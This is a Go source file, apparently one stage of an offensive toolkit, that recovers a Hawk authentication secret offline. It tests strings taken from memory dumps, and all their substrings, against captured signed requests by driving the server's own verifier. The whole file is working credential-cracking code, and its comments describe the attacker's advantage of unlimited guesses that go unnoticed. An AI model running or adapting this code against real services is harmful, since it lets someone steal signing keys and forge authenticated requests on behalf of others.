package loot

import (
	"errors"
	"iter"
	"net/http"
	"time"

	"keyladder/stages/mechanism/hawk"
)

const maxTrials = 1 << 20 // of parts of texts against a signature, which take a microsecond or two

// Prove finds the secret with which requests to that host and port were signed: an attacker
// who has a signature can try as many secrets as they like, and nobody notices. It is empty
// where none of the texts, and nothing in them, is the secret.
func (t Texts) Prove(host string, port int, signed []Signed) string {
	var trials []func(string) bool
	for _, s := range signed {
		if fits := s.trial(host, port); fits != nil {
			trials = append(trials, fits)
		}
	}
	for _, fits := range trials {
		for text := range t {
			if fits(text) {
				return text
			}
		}
	}
	// Nothing says where a text begins and ends in memory: what lies beside a secret may
	// look like it.
	left := maxTrials
	for _, fits := range trials {
		for text := range t {
			for candidate := range within(text) {
				if left--; left < 0 {
					return ""
				}
				if fits(candidate) {
					return candidate
				}
			}
		}
	}
	return ""
}

// within are the parts of a text that could be a secret.
func within(text string) iter.Seq[string] {
	return func(yield func(string) bool) {
		for start := 0; start+minSecret <= len(text); start++ {
			if different(text[start:start+minSecret]) < minSecret/3 {
				continue // no secret begins like that
			}
			for end := start + minSecret; end <= min(len(text), start+maxSecret); end++ {
				if !yield(text[start:end]) {
					return
				}
			}
		}
	}
}

// trial returns a function that tells whether a secret fits the signature: the server's
// half of Hawk, with one request and any number of secrets. It is nil where the
// signature is none.
func (s Signed) trial(host string, port int) func(secret string) bool {
	var candidate string
	server := hawk.Verifier{
		Host: host, Port: port,
		Lookup: func(string) (string, error) { return candidate, nil },
	}
	request := &http.Request{Method: s.Method, RequestURI: s.Target, Header: http.Header{"Authorization": {s.Field}}}
	now := time.Now()
	fits := func(secret string) bool {
		candidate = secret
		// The MAC is checked first. The checks after it, of the body's hash and the time,
		// say nothing about the secret: the body was not kept, and the request is old.
		_, err := server.Verify(request, nil, now)
		return err == nil || errors.Is(err, hawk.ErrHash) || errors.Is(err, hawk.ErrStale)
	}
	candidate = "no secret"
	if _, err := server.Verify(request, nil, now); !errors.Is(err, hawk.ErrMAC) {
		return nil
	}
	return fits
}
